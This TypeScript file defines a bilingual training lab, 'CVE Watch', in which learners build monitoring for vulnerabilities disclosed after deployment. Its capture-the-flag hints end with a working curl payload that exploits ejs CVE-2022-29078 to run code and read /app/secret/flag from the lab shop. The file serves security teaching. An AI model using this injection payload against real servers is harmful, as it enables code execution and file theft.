import type { Lab } from '#lab';
import { messages } from './messages.ts';
import { tasks } from './tasks.ts';

export default {
  label: 'L4.5',
  title: { de: 'CVE-Wache', en: 'CVE Watch' },
  summary: {
    de: 'Beim Ausrollen war alles grün. An den Images hat sich seither nichts geändert, an dem, was man über sie weiß, schon. Bau eine Wache, die das merkt, bevor es jemand anderes merkt.',
    en: 'At deployment everything was green. Nothing about the images has changed since, but what is known about them has. Build a watch that notices before somebody else does.',
  },
  minutes: 55,
  difficulty: 3,
  needs: [],
  checkLimitSeconds: 60,
  attack: {
    title: {
      de: 'Lies über die Lücke, die nach dem Ausrollen bekannt wurde, die Datei /app/secret/flag des Ladens',
      en: 'Read the shop’s file /app/secret/flag through the hole that became known after deployment',
    },
    points: 20,
    hints: [
      {
        de: 'Scanne, was läuft, mit den neuesten Meldungen. Die kritische Lücke des Ladens steckt in ejs, CVE-2022-29078. Der Laden nimmt JSON entgegen und reicht alles, was darin steht, an ejs weiter.',
        en: 'Scan what runs with the newest advisories. The shop’s critical hole is in ejs, CVE-2022-29078. The shop takes JSON and hands everything in it to ejs.',
      },
      {
        de: 'ejs liest aus den Daten auch Einstellungen: `{"settings":{"view options":{"outputFunctionName":"…"}}}`. Version 3.1.6 setzt den Wert ungeprüft in JavaScript ein: `var WERT = __append;`.',
        en: 'ejs also reads settings from the data: `{"settings":{"view options":{"outputFunctionName":"…"}}}`. Version 3.1.6 puts the value unchecked into JavaScript: `var VALUE = __append;`.',
      },
      {
        de: '`curl --data \'{"settings":{"view options":{"outputFunctionName":"x;return process.mainModule.require(`fs`).readFileSync(`/app/secret/flag`,`utf8`);s"}}}\' http://dockerhost:8080/`',
        en: '`curl --data \'{"settings":{"view options":{"outputFunctionName":"x;return process.mainModule.require(`fs`).readFileSync(`/app/secret/flag`,`utf8`);s"}}}\' http://dockerhost:8080/`',
      },
    ],
  },
  tasks,
  messages,
} as const satisfies Lab;
